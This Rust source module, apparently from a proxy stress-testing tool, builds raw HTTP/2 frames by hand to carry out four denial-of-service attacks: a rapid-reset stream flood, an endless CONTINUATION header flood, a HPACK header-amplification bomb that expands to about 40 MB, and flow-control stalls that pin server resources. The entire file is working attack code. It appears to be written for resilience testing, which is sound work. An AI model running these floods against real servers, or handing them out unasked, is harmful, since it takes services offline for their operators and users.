//! Attacks by HTTP/2, frame by frame: no library would send these.

use super::http1::hold;
use super::{Done, Pace};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

const DATA_MAX: usize = 16_384;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The preface and our settings (identifier, value).
fn opening(settings: &[(u16, u32)]) -> Vec<u8> {
    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    let payload: Vec<u8> =
        settings.iter().flat_map(|(id, v)| [&id.to_be_bytes()[..], &v.to_be_bytes()[..]].concat()).collect();
    frame(&mut out, SETTINGS, 0, 0, &payload);
    out
}

/// GET of a path, from the static table and literals that are not indexed.
fn get(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x01, 13];
    block.extend_from_slice(b"bench.example");
    block.extend_from_slice(&[0x04, path.len() as u8]);
    block.extend_from_slice(path.as_bytes());
    block
}

fn connect(to: SocketAddr) -> std::io::Result<TcpStream> {
    let s = TcpStream::connect(to)?;
    s.set_write_timeout(Some(Duration::from_secs(1)))?;
    Ok(s)
}

/// Reads and drops what has come; false when the connection is over.
fn drain(s: &mut TcpStream) -> bool {
    let mut buf = [0; 65536];
    let _ = s.set_nonblocking(true);
    let alive = loop {
        match s.read(&mut buf) {
            Ok(0) => break false,
            Ok(_) => {}
            Err(e) => break e.kind() == ErrorKind::WouldBlock,
        }
    };
    let _ = s.set_nonblocking(false);
    alive
}

/// Opens and resets, on eight connections, each opened again when the proxy has had enough.
pub(super) fn rapid_reset(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
    let (block, mut streams, mut bytes) = (get("/"), 0, 0);
    let mut lanes: Vec<Option<(TcpStream, u32)>> = (0..8).map(|_| None).collect();
    while !pace.over() {
        for lane in &mut lanes {
            let Some((s, next)) = lane else {
                if let Ok(mut s) = connect(to)
                    && s.write_all(&opening(&[])).is_ok()
                {
                    *lane = Some((s, 1));
                }
                continue;
            };
            if !pace.wait(streams, 40_000.0) {
                break;
            }
            let mut out = Vec::with_capacity(8192);
            for _ in 0..100 {
                frame(&mut out, HEADERS, END_STREAM | END_HEADERS, *next, &block);
                frame(&mut out, RST_STREAM, 0, *next, &8u32.to_be_bytes());
                *next += 2;
            }
            if s.write_all(&out).is_ok() && drain(s) {
                streams += 100;
                bytes += out.len() as u64;
            } else {
                *lane = None;
            }
        }
    }
    Ok(Done { held: lanes.iter().flatten().count(), times: streams, bytes })
}

/// A header block that never ends.
pub(super) fn continuation(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
    // Literals without indexing: name `x`, value of 100 bytes.
    let field = [&[0, 1, b'x', 100][..], &[b'v'; 100]].concat();
    let mut payload = field.repeat(DATA_MAX / field.len());
    payload.truncate(DATA_MAX);
    let mut frames = 0;
    while !pace.over() {
        let Ok(mut s) = connect(to) else { continue };
        let mut out = opening(&[]);
        frame(&mut out, HEADERS, END_STREAM, 1, &get("/"));
        let mut alive = s.write_all(&out).is_ok();
        out.clear();
        frame(&mut out, CONTINUATION, 0, 1, &payload);
        for _ in 0..1000 {
            alive = alive && pace.wait(frames, 2000.0) && s.write_all(&out).is_ok() && drain(&mut s);
            frames += u64::from(alive);
        }
    }
    Ok(Done { held: 0, times: frames, bytes: frames * (9 + DATA_MAX as u64) })
}

/// A million fields of a byte each, which decode to 40 MB.
pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
    let (payload, mut requests, mut bytes) = (vec![0x90; DATA_MAX], 0, 0); // 0x90: accept-encoding: gzip, deflate, indexed
    while pace.wait(requests, 50.0) {
        let Ok(mut s) = connect(to) else { continue };
        let mut out = opening(&[]);
        frame(&mut out, HEADERS, END_STREAM, 1, &get("/"));
        for n in 0..=60 {
            frame(&mut out, CONTINUATION, if n == 60 { END_HEADERS } else { 0 }, 1, &payload);
        }
        bytes += if s.write_all(&out).is_ok() { out.len() as u64 } else { 0 };
        drain(&mut s);
        requests += 1;
    }
    Ok(Done { held: 0, times: requests, bytes })
}

/// Fifty connections with a hundred streams each: half of them grant no window, the others all of it and then do not read.
pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
    let ask = |window: u32| {
        let mut out = opening(&[(4, window)]);
        if window > 0 {
            frame(&mut out, WINDOW_UPDATE, 0, 0, &0x7000_0000u32.to_be_bytes());
        }
        for n in 0..100 {
            frame(&mut out, HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &get("/big"));
        }
        out
    };
    let (closed, open) = (ask(0), ask(0x7fff_ffff));
    let turn = std::cell::Cell::new(false);
    let held = hold(50, to, pace, |s| {
        turn.set(!turn.get());
        s.write_all(if turn.get() { &closed } else { &open })
    })?;
    Ok(Done { held, times: 100 * held as u64, bytes: (held * (closed.len() + open.len()) / 2) as u64 })
}
